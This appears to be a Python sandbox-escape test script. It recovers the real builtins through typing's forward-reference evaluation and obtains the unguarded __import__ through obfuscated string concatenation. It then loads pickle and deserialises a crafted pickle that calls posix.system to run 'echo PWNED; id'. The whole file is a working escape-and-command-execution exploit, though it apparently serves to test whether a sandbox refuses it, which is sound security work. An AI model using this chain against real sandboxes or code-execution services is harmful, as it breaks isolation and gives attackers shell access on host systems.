# eval: pickle imported from a stdlib frame, then a pickle calling posix.system
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
heapq.nsmallest(1, ["pickle"], key=imp)
pk = imp("pickle")
try:
    pk.loads(b"cposix\nsystem\n(S'echo PWN\"\"ED; id'\ntR.")
except Exception as e:
    print("refused:", type(e).__name__, e)
